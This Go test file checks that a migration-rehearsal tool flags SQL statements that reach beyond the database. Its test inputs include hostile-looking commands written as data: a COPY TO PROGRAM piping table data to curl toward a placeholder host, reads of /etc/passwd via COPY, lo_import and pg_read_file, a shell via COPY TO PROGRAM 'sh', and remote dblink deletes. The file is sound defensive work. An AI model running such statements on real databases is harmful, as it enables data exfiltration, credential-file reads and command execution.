package rehearse

import (
	"strings"
	"testing"
)

func TestWhatReachesBeyondItsDatabaseIsNotRehearsed(t *testing.T) {
	for sql, want := range map[string]string{
		"COPY orders TO PROGRAM 'curl -d @- http://x'":                   "Line 1, COPY, reaches beyond the database.",
		"SELECT 1;\nCOPY orders FROM '/etc/passwd'":                      "Line 2, COPY, reaches",
		"CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p":        "CREATE SUBSCRIPTION, reaches",
		"DROP SUBSCRIPTION s":                                            "reaches",
		"ALTER SYSTEM SET work_mem = '1GB'":                              "ALTER SYSTEM, reaches",
		"CREATE ROLE x":                                                  "CREATE ROLE, reaches",
		"ALTER USER x PASSWORD 'y'":                                      "ALTER ROLE, reaches",
		"DROP ROLE x":                                                    "reaches",
		"GRANT a TO b":                                                   "GRANT ROLE, reaches",
		"ALTER ROLE x SET search_path = y":                               "ALTER ROLE, reaches",
		"ALTER DATABASE shop SET work_mem = '1MB'":                       "ALTER DATABASE, reaches",
		"ALTER DATABASE shop OWNER TO x":                                 "ALTER DATABASE, reaches",
		"ALTER DATABASE shop RENAME TO y":                                "ALTER DATABASE, reaches",
		"CREATE DATABASE x":                                              "CREATE DATABASE, reaches",
		"GRANT CONNECT ON DATABASE shop TO x":                            "GRANT, reaches",
		"REVOKE ALL ON DATABASE shop FROM PUBLIC":                        "REVOKE, reaches",
		"COMMENT ON DATABASE shop IS 'x'":                                "COMMENT, reaches",
		"CREATE TABLESPACE t LOCATION '/x'":                              "CREATE TABLESPACE, reaches",
		"DROP OWNED BY x":                                                "DROP OWNED, reaches",
		"REASSIGN OWNED BY x TO y":                                       "REASSIGN OWNED, reaches",
		"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw":              "CREATE SERVER, reaches",
		"CREATE USER MAPPING FOR x SERVER s":                             "CREATE USER MAPPING, reaches",
		"IMPORT FOREIGN SCHEMA x FROM SERVER s INTO y":                   "IMPORT FOREIGN SCHEMA, reaches",
		"CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f()": "CREATE EVENT TRIGGER, reaches",
		"PREPARE TRANSACTION 'x'":                                        "PREPARE TRANSACTION, reaches",
		"CHECKPOINT":                                                     "CHECKPOINT, reaches",
		"CREATE EXTENSION dblink":                                        "CREATE EXTENSION with dblink, reaches",
		"SELECT dblink_exec('host=x', 'DELETE FROM y')":                  "SELECT with dblink, reaches",
		"SELECT lo_import('/etc/passwd')":                                "SELECT with lo_import, reaches",
		"INSERT INTO t SELECT pg_read_file('/etc/passwd')":               "INSERT with pg_read_file, reaches",
		"SELECT pg_terminate_backend(pid) FROM pg_stat_activity":         "reaches",
		"SELECT net.http_post('http://x')":                               "reaches",
		"DO $$ BEGIN EXECUTE 'ALTER ROLE ' || 'x' || ' LOGIN'; END $$":   "DO with alter role, reaches",
		"DO $$ BEGIN EXECUTE format('GRANT CONNECT ON DATABASE %I TO x', current_database()); END $$": "DO with on database, reaches",
		"CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS 'BEGIN COPY t TO PROGRAM ''sh''; END'":  "CREATE FUNCTION with to program, reaches",
		"CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS 'pass'":                              "CREATE FUNCTION with plpython, reaches",
		"ALTER TABLE t ADD x int VIRTUAL NONSENSE; ALTER ROLE x LOGIN":                                "The file, which nobody could analyse, seems to reach beyond the database: alter role.",

		"ALTER TABLE t ADD x int; -- later: ALTER ROLE y":                                                   "",
		"CREATE TABLE roles (id int); ALTER TABLE roles OWNER TO x; GRANT SELECT ON roles TO y":             "",
		"COMMENT ON TABLE t IS 'to program the database'":                                                   "",
		"CREATE FUNCTION hello_world() RETURNS int LANGUAGE sql AS 'SELECT 1'; SELECT hello_world()":        "",
		"CREATE EXTENSION pg_trgm; DO $$ BEGIN ALTER TABLE t ADD y int; END $$; ALTER TYPE m ADD VALUE 'x'": "",
		"COPY t TO STDOUT":                         "",
		"ALTER TABLE t ADD x int VIRTUAL NONSENSE": "",
	} {
		got := reaches(steps(sql)[0])
		if want == "" && got != "" || !strings.Contains(got, want) {
			t.Errorf("%s: %q", sql, got)
		}
	}
}
